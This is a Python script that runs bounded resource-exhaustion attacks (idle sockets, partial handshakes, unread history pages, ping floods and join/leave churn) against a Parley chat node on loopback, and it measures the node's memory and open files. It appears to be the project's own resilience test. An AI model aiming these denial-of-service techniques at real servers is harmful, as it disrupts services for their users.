#!/usr/bin/env python3
"""Bounded resource attacks on a Parley node over loopback, printing the node's memory and open files.

Each attack is a loop with a fixed size and stops early once the node's resident memory passes
--max-rss-mb, so it never takes the machine down. Run it against a node started for the purpose:

    bash -c 'ulimit -n 5000; exec dotnet parley.dll serve --data /tmp/p --urls http://127.0.0.1:8090 \
        --Parley:Auth:HmacSecret=attack-secret-attack-secret-attack-secret-0123'
    scripts/attack.py silent  --port 8090 --pid <node pid> --count 5200
    scripts/attack.py partial --port 8090 --pid <node pid> --count 5200
    scripts/attack.py history --port 8090 --pid <node pid>
    scripts/attack.py pings   --port 8090 --pid <node pid> --count 4000000   (stalls the writer with history pages first)
    scripts/attack.py joins   --port 8090 --pid <node pid> --count 5000

Tokens are HS256 tokens signed with --secret, which must match the node's Parley:Auth:HmacSecret.
"""
import argparse
import base64
import hashlib
import hmac
import json
import os
import socket
import struct
import sys
import threading
import time
import urllib.request


def b64(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def token(secret, tenant, user, scope=None):
    now = int(time.time())
    claims = {"tenant": tenant, "sub": user, "rooms": ["*"], "iss": "parley-dev", "aud": "parley",
              "iat": now, "nbf": now, "exp": now + 3600}
    if scope:
        claims["scope"] = scope
    head = b64(json.dumps({"alg": "HS256", "typ": "JWT"}).encode()) + b"." + b64(json.dumps(claims).encode())
    return (head + b"." + b64(hmac.new(secret.encode(), head, hashlib.sha256).digest())).decode()


class Node:
    """The node's process as /proc shows it."""

    def __init__(self, pid):
        self.pid = pid
        self.peak_rss = 0

    def alive(self):
        return os.path.exists(f"/proc/{self.pid}")

    def rss_mb(self):
        try:
            with open(f"/proc/{self.pid}/status") as status:
                for line in status:
                    if line.startswith("VmRSS:"):
                        rss = int(line.split()[1]) // 1024
                        self.peak_rss = max(self.peak_rss, rss)
                        return rss
        except OSError:
            pass
        return -1

    def open_files(self):
        try:
            return len(os.listdir(f"/proc/{self.pid}/fd"))
        except OSError:
            return -1

    def report(self, what):
        print(f"{time.strftime('%H:%M:%S')} {what}: rss={self.rss_mb()} MB peak={self.peak_rss} MB "
              f"open_files={self.open_files()} alive={self.alive()}", flush=True)


class Ws:
    """A minimal WebSocket client: masked text frames out, frames in only when asked."""

    def __init__(self, port, rcvbuf=None):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.connect(("127.0.0.1", port))
        key = base64.b64encode(os.urandom(16)).decode()
        self.sock.sendall((f"GET /v1/ws HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
                           f"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n").encode())
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = self.sock.recv(1)
            if not chunk:
                raise ConnectionError("closed during the upgrade")
            head += chunk
        if b" 101 " not in head.split(b"\r\n")[0]:
            raise ConnectionError(head.split(b"\r\n")[0].decode())
        self.buffer = b""

    def send(self, payload, opcode=1):
        data = payload.encode() if isinstance(payload, str) else payload
        mask = os.urandom(4)
        n = len(data)
        if n < 126:
            header = struct.pack("!BB", 0x80 | opcode, 0x80 | n)
        elif n < 65536:
            header = struct.pack("!BBH", 0x80 | opcode, 0x80 | 126, n)
        else:
            header = struct.pack("!BBQ", 0x80 | opcode, 0x80 | 127, n)
        masked = _mask(data, mask)
        self.sock.sendall(header + mask + masked)

    def recv_frame(self):
        def need(k):
            while len(self.buffer) < k:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    raise ConnectionError("closed")
                self.buffer += chunk
        need(2)
        opcode, n = self.buffer[0] & 0x0F, self.buffer[1] & 0x7F
        at = 2
        if n == 126:
            need(4)
            n, at = struct.unpack("!H", self.buffer[2:4])[0], 4
        elif n == 127:
            need(10)
            n, at = struct.unpack("!Q", self.buffer[2:10])[0], 10
        need(at + n)
        payload, self.buffer = self.buffer[at:at + n], self.buffer[at + n:]
        return opcode, payload

    def expect(self, op):
        while True:
            opcode, payload = self.recv_frame()
            if opcode == 8:
                raise ConnectionError(f"closed with {struct.unpack('!H', payload[:2])[0] if len(payload) >= 2 else 0}")
            if opcode == 1:
                frame = json.loads(payload)
                if frame.get("op") == op:
                    return frame

    def connect(self, tok):
        self.send(json.dumps({"op": "connect", "token": tok}))
        return self.expect("connected")


def _mask(data, mask):
    n = len(data)
    key = (mask * (n // 4 + 1))[:n]
    return (int.from_bytes(data, "big") ^ int.from_bytes(key, "big")).to_bytes(n, "big")


def over(node, args):
    return node.rss_mb() > args.max_rss_mb or not node.alive()


def silent(args, node, partial):
    sockets = []
    head = b"GET /v1/ws HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgr"
    refused = 0
    for i in range(args.count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect(("127.0.0.1", args.port))
            if partial:
                s.sendall(head)
            sockets.append(s)
        except OSError:
            refused += 1
            s.close()
        if i % 500 == 499:
            node.report(f"{i + 1} sockets opened ({refused} refused)")
            if over(node, args):
                break
    deadline = time.time() + args.hold
    while time.time() < deadline and not over(node, args):
        time.sleep(5)
        closed = sum(1 for s in sockets if _peer_closed(s))
        node.report(f"holding {len(sockets)} sockets, {closed} closed by the node")
    try:
        probe = Ws(args.port)
        probe.connect(token(args.secret, "acme", "probe"))
        print("a normal client connects: yes", flush=True)
    except Exception as e:  # noqa: BLE001 - the outcome is the report
        print(f"a normal client connects: no ({e})", flush=True)
    for s in sockets:
        s.close()


def _peer_closed(s):
    """True once the node has closed the socket; whatever it sent first (a 408) is read and dropped."""
    s.setblocking(False)
    try:
        while True:
            if s.recv(4096) == b"":
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        s.setblocking(True)


def fill(args, node, count):
    """Publishes count messages of about 16 KB to the room "big" over HTTP."""
    tok = token(args.secret, "acme", "filler", scope="publish read")
    for i in range(count):
        request = urllib.request.Request(f"http://127.0.0.1:{args.port}/api/v1/rooms/big/messages",
                                         data=json.dumps({"id": f"m{i}-{time.time_ns()}", "body": {"text": "x" * 16000}}).encode(),
                                         headers={"Authorization": "Bearer " + tok, "Content-Type": "application/json"})
        urllib.request.urlopen(request).read()
    node.report(f"room filled with {count} messages of 16 KB")


def history(args, node):
    fill(args, node, 500)
    attacker = Ws(args.port, rcvbuf=4096)
    attacker.connect(token(args.secret, "acme", "attacker"))
    for i in range(args.count):
        attacker.send(json.dumps({"op": "history", "rid": i, "room": "big", "limit": 500}))
        if i % 10 == 9:
            node.report(f"{i + 1} history requests sent")
            if over(node, args):
                break
    watch(args, node, "after the history requests")
    bystander = Ws(args.port)
    bystander.connect(token(args.secret, "acme", "bystander"))
    bystander.sock.settimeout(30)
    bystander.send(json.dumps({"op": "history", "rid": 1, "room": "big", "limit": 5}))
    try:
        page = bystander.expect("history")
        print(f"another client's history request answered with {len(page['messages'])} messages", flush=True)
    except Exception as e:  # noqa: BLE001
        print(f"another client's history request: no answer ({e})", flush=True)
    node.report("end")
    attacker.sock.close()


def pings(args, node):
    fill(args, node, 64)
    attacker = Ws(args.port, rcvbuf=4096)
    attacker.connect(token(args.secret, "acme", "pinger"))
    # Twenty pages of about 1 MB, never read, stall the node's writer; the pongs then wait behind it.
    for i in range(20):
        attacker.send(json.dumps({"op": "history", "rid": i, "room": "big", "limit": 64}))
    attacker.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    frame = struct.pack("!BB", 0x89, 0x80 | 125) + b"\0\0\0\0" + b"p" * 125  # a ping with a zero mask and 125 bytes to echo
    batch = frame * 10_000
    sent = 0
    attacker.sock.settimeout(10)
    try:
        while sent < args.count:
            attacker.sock.sendall(batch)
            sent += 10_000
            if sent % 200_000 == 0:
                node.report(f"{sent} pings sent")
                if over(node, args):
                    break
    except OSError as e:
        print(f"the node stopped reading or closed after {sent} pings ({e})", flush=True)
    watch(args, node, "after the pings")
    attacker.sock.close()


def watch(args, node, what):
    """Reports the node every 3 s for --hold seconds while the attacker holds its connection, unread."""
    deadline = time.time() + args.hold
    while time.time() < deadline and not over(node, args):
        time.sleep(3)
        node.report(what)


def joins(args, node):
    members = []
    counts = [0] * 100
    for i in range(100):
        member = Ws(args.port)
        member.connect(token(args.secret, "acme", f"member{i}"))
        member.send(json.dumps({"op": "join", "rid": 1, "room": "crowd"}))
        member.expect("joined")
        members.append(member)

    def count(i):
        member = members[i]
        member.sock.settimeout(5)
        try:
            while True:
                opcode, payload = member.recv_frame()
                if opcode == 1 and b'"presence"' in payload and b'"rid"' not in payload:
                    counts[i] += 1
        except (OSError, ConnectionError):
            pass

    readers = [threading.Thread(target=count, args=(i,), daemon=True) for i in range(100)]
    for reader in readers:
        reader.start()
    attacker = Ws(args.port)
    attacker.connect(token(args.secret, "acme", "churner"))
    started = time.time()
    for i in range(args.count):
        attacker.send(json.dumps({"op": "join", "rid": f"j{i}", "room": "crowd"}))
        attacker.send(json.dumps({"op": "leave", "rid": f"l{i}", "room": "crowd"}))
    spent = time.time() - started
    for reader in readers:
        reader.join(timeout=60)
    node.report("end")
    print(f"{args.count} join+leave pairs sent in {spent:.1f} s; presence events delivered: {sum(counts)}", flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=["silent", "partial", "history", "pings", "joins"])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--pid", type=int, required=True, help="the node's process id, for its memory and open files")
    parser.add_argument("--count", type=int, help="sockets, history requests, pings or join+leave pairs")
    parser.add_argument("--hold", type=int, default=30, help="seconds the sockets are held after the attack, the node watched")
    parser.add_argument("--max-rss-mb", type=int, default=1200, help="stop the attack once the node holds this much")
    parser.add_argument("--secret", default="attack-secret-attack-secret-attack-secret-0123")
    args = parser.parse_args()
    args.count = args.count or {"silent": 5200, "partial": 5200, "history": 150, "pings": 4_000_000, "joins": 5000}[args.attack]
    node = Node(args.pid)
    node.report("start")
    if args.attack in ("silent", "partial"):
        silent(args, node, args.attack == "partial")
    else:
        {"history": history, "pings": pings, "joins": joins}[args.attack](args, node)
    print(f"peak rss {node.peak_rss} MB; node alive: {node.alive()}", flush=True)


if __name__ == "__main__":
    sys.exit(main())
